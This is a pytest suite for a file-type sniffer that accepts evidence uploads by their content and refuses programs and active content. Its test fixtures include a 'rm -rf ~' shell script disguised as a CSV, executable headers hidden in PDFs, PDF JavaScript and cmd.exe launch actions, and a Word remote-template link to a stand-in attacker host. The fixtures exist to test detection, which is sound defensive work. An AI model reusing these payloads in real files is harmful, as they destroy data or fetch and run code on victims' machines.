"""Evidence files are what their content is: accepted types by magic bytes, programs refused."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest

from factory_journey.ingest.sniff import FileTypeError, evidence_kind, sniff


def _zip(*names: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, "<x/>")
    return buffer.getvalue()


PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(20)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(20)
GIF = b"GIF89a" + bytes(20)
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(20)
XLSX = _zip("[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml")
DOCX = _zip("[Content_Types].xml", "word/document.xml")
CSV = "month,kwh\n1,1200\n2,1180\nHà Nội,3\n".encode()


@pytest.mark.parametrize(
    ("filename", "content", "content_type"),
    [
        ("invoice.pdf", PDF, "application/pdf"),
        ("meter.PNG", PNG, "image/png"),
        ("meter.jpg", JPEG, "image/jpeg"),
        ("meter.jpeg", JPEG, "image/jpeg"),
        ("meter.gif", GIF, "image/gif"),
        ("meter.webp", WEBP, "image/webp"),
        ("log.xlsx", XLSX, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        (
            "report.docx",
            DOCX,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("readings.csv", CSV, "text/csv"),
        ("readings.csv", b"\xef\xbb\xbf" + CSV, "text/csv"),  # Excel's UTF-8 with BOM
        ("note.txt", b"Seen on site.\r\n\tPage 2\x0c", "text/plain"),
    ],
)
def test_accepted_by_content(filename, content, content_type):
    assert evidence_kind(filename, content).content_type == content_type


@pytest.mark.parametrize(
    ("filename", "content", "words"),
    [
        ("invoice.pdf", b"\x7fELF\x02\x01\x01" + bytes(40), "a Linux program (ELF)"),
        ("invoice.pdf", b"MZ\x90\x00\x03" + bytes(40), "a Windows program"),
        ("photo.png", b"\xcf\xfa\xed\xfe\x07\x00" + bytes(40), "a macOS program"),
        ("readings.csv", b"#!/bin/sh\nrm -rf ~\n", "a script"),
        ("note.txt", b"#!/usr/bin/env python3\nprint(1)\n", "a script"),
        ("log.xlsx", _zip("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"), "macros"),
        ("log.xlsx", _zip("META-INF/MANIFEST.MF", "Main.class"), "not an .xlsx or .docx"),
        ("log.xlsx", b"PK\x03\x04 broken", "damaged ZIP"),
        ("old.pdf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(40), "old Office file"),
    ],
)
def test_programs_and_archives_are_refused_whatever_their_name(filename, content, words):
    with pytest.raises(FileTypeError) as refused:
        evidence_kind(filename, content)
    message = str(refused.value)
    assert words in message
    assert filename in message
    assert "not accepted" in message


@pytest.mark.parametrize(
    ("filename", "content", "words"),
    [
        ("invoice.pdf", PNG, "is a PNG image by its content, not a PDF document: rename it"),
        ("photo.png", PDF, "is a PDF document by its content, not a PNG image"),
        ("photo.jpg", GIF, "is a GIF image by its content"),
        ("log.xlsx", DOCX, "is a Word document (.docx) by its content, not an Excel workbook"),
        ("invoice.pdf", CSV, "is plain UTF-8 text by its content, not a PDF document"),
        ("readings.csv", PDF, "is a PDF document by its content, not a CSV table"),
    ],
)
def test_content_that_disagrees_with_the_name_is_refused(filename, content, words):
    with pytest.raises(FileTypeError, match="by its content") as refused:
        evidence_kind(filename, content)
    assert words in str(refused.value)


@pytest.mark.parametrize(
    ("filename", "content", "words"),
    [
        ("readings.csv", b"a,b\n1,\x002\n", "does not look like a CSV table"),
        ("readings.csv", "Düsseldorf;Köln\n".encode("latin-1"), "does not look like a CSV table"),
        ("invoice.pdf", b"\x00\x01\x02\x03garbage", "does not look like a PDF document"),
        ("setup.exe", b"MZ" + bytes(10), "evidence must be a file of one of these types"),
        ("archive.zip", XLSX, "evidence must be a file of one of these types"),
        ("no-suffix", PDF, "evidence must be a file of one of these types"),
        ("empty.pdf", b"", "empty.pdf is empty"),
    ],
)
def test_unrecognised_content_unknown_suffix_and_empty_files(filename, content, words):
    with pytest.raises(FileTypeError) as refused:
        evidence_kind(filename, content)
    assert words in str(refused.value)


def test_sniff_names_the_kind_without_a_name():
    assert sniff(PDF).key == "pdf"
    assert sniff(XLSX).key == "xlsx"
    assert sniff(CSV).key == "text"
    assert sniff(b"\x7fELF").refused is not None
    assert sniff(bytes(range(256))).key is None


# --- active, embedded or linked content (review of issue #13) --------------------------------

#: A minimal Windows program header: "MZ", its PE header's offset at 0x3C, "PE\0\0" there.
PE = b"MZ\x90\x00" + bytes(56) + (64).to_bytes(4, "little") + b"PE\x00\x00" + bytes(40)
ELF = b"\x7fELF\x02\x01\x01" + bytes(40)
CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)


def _office(parts: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {"[Content_Types].xml": CONTENT_TYPES, **parts}.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _rels(*relationships: str) -> str:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships">' + "".join(relationships) + "</Relationships>"
    )


R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
TEMPLATE = _rels(
    f'<Relationship Id="rId1" Type="{R}attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/>'
)
#: The same, "External" written with a character reference (E = &#69;).
ENCODED_TEMPLATE = TEMPLATE.replace("External", "&#69;xternal")
HYPERLINK = _rels(
    f'<Relationship Id="rId1" Type="{R}hyperlink" Target="https://example.org" '
    'TargetMode="External"/>'
)
SHEET = {"xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": "<worksheet/>"}
WORD = {"word/document.xml": "<document/>"}


def _pdf_stream(data: bytes, dictionary: bytes = b"/Filter/FlateDecode") -> bytes:
    return (
        b"%%PDF-1.7\n1 0 obj\n<</Length %d%s>>\nstream\n" % (len(data), dictionary)
        + data
        + b"\nendstream\nendobj\n%%EOF\n"
    )


@pytest.mark.parametrize(
    ("filename", "content", "words"),
    [
        ("invoice.pdf", b"%PDF-1.4\n" + PE, "holds a Windows program (PE)"),
        ("invoice.pdf", b"%PDF-1.4\n%\xe2\xe3\n" + ELF, "holds a Linux program (ELF)"),
        ("invoice.pdf", b"%PDF-1.7\n<</S/JavaScript/JS(app.alert(1))>>", "JavaScript"),
        ("invoice.pdf", b"%PDF-1.7\n<</OpenAction<</JS 3 0 R>>>>", "JavaScript (/JS)"),
        ("invoice.pdf", b"%PDF-1.7\n<</S/J#61vaScript>>", "JavaScript"),
        ("invoice.pdf", b"%PDF-1.7\n<</S/Launch/F(cmd.exe)>>", "launches a program"),
        ("invoice.pdf", b"%PDF-1.7\n<</Type/EmbeddedFile>>", "an embedded file"),
        ("invoice.pdf", b"%PDF-1.7\n<</Names<</EmbeddedFiles 4 0 R>>>>", "embedded files"),
        (
            "invoice.pdf",
            _pdf_stream(zlib.compress(b"<</S/JavaScript/JS(x)>>")),
            "in a compressed stream",
        ),
        ("invoice.pdf", _pdf_stream(zlib.compress(PE)), "Windows program (PE), in a compressed"),
        (
            "invoice.pdf",
            _pdf_stream(
                zlib.compress(b"3 0 <</OpenAction<</JS 4 0 R>>>>"),
                b"/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode",
            ),
            "JavaScript (/JS), in a compressed stream",
        ),
        (
            "report.docx",
            _office({**WORD, "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
            "embedded objects (word/embeddings/oleObject1.bin)",
        ),
        (
            "report.docx",
            _office({**WORD, "word/_rels/settings.xml.rels": TEMPLATE}),
            "a link Office follows on opening, to http://evil.example/t.dotm",
        ),
        (
            "report.docx",
            _office({**WORD, "word/_rels/settings.xml.rels": ENCODED_TEMPLATE}),
            "a link Office follows on opening",
        ),
        (
            "report.docx",
            _office(
                {
                    **WORD,
                    "word/_rels/settings.xml.rels": TEMPLATE.replace(
                        't.dotm"', 't.dotm?a=>b"'
                    ),  # a ">" inside an attribute hides nothing
                }
            ),
            "a link Office follows on opening",
        ),
        ("log.xlsx", _office({**SHEET, "xl/activeX/activeX1.xml": "<ax/>"}), "ActiveX"),
        (
            "log.xlsx",
            _office({**SHEET, "xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
            "links to other workbooks",
        ),
        ("log.xlsx", _office({**SHEET, "xl/payload.exe": PE}), "not XML or an image"),
        ("log.xlsx", _office({**SHEET, "xl/tool.dll": b"x"}), "(xl/tool.dll)"),
        ("log.xlsx", _office({**SHEET, "xl/macros.bin": b"x"}), "(xl/macros.bin)"),
        (
            "log.xlsx",
            _office(
                {
                    **SHEET,
                    "[Content_Types].xml": CONTENT_TYPES.replace(
                        "application/xml", "application/vnd.ms-office.vbaProject"
                    ),
                }
            ),
            "vbaproject in [Content_Types].xml",
        ),
        (
            "log.xlsx",
            _office({**SHEET, "xl/_rels/workbook.xml.rels": '<!DOCTYPE x [<!ENTITY a "b">]>'}),
            "document type declaration",
        ),
    ],
)
def test_active_embedded_or_linked_content_is_refused(filename, content, words):
    with pytest.raises(FileTypeError) as refused:
        evidence_kind(filename, content)
    message = str(refused.value)
    assert words in message, message
    assert filename in message and "not accepted as evidence" in message


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("supplier.txt", b"MZ Textiles Ltd, invoice 12\n"),
        ("suppliers.csv", b"MZ,Textiles\nPE,Garments\n"),
        ("invoice.pdf", _pdf_stream(zlib.compress(b"BT /F1 12 Tf (Invoice 12) Tj ET"))),
        ("invoice.pdf", b"%PDF-1.7\n<</URI(https://example.org/js/JSON)/S/URI>>\n%%EOF"),
        ("invoice.pdf", b"%PDF-1.7\n<</JSX 1/JavaScripts 2/Launcher 3>>\n%%EOF"),
        # Three bytes "/JS" turn up by chance in image data and page text: not an action.
        ("invoice.pdf", _pdf_stream(b"\xff\xd8\x13/JS \x00\x91", b"/Filter/DCTDecode")),
        ("invoice.pdf", _pdf_stream(zlib.compress(b"BT (see /JS folder) Tj ET /JS 1 Tf"))),
        ("report.docx", _office({**WORD, "word/_rels/document.xml.rels": HYPERLINK})),
        (
            "log.xlsx",
            _office(
                {
                    **SHEET,
                    "xl/printerSettings/printerSettings1.bin": bytes(64),
                    "xl/media/image1.png": PNG,
                    "xl/drawings/vmlDrawing1.vml": "<xml/>",
                    "docProps/thumbnail.jpeg": JPEG,
                }
            ),
        ),
    ],
)
def test_plain_documents_that_look_close_are_accepted(filename, content):
    assert evidence_kind(filename, content).suffixes


def test_a_large_pdf_is_scanned_across_chunk_boundaries():
    from factory_journey.ingest import sniff as module

    padding = b"%" + b"x" * (module._CHUNK - 12) + b"\n"  # the name straddles a chunk's end
    with pytest.raises(FileTypeError, match="JavaScript"):
        evidence_kind("big.pdf", b"%PDF-1.7\n" + padding + b"<</S/JavaScript>>")
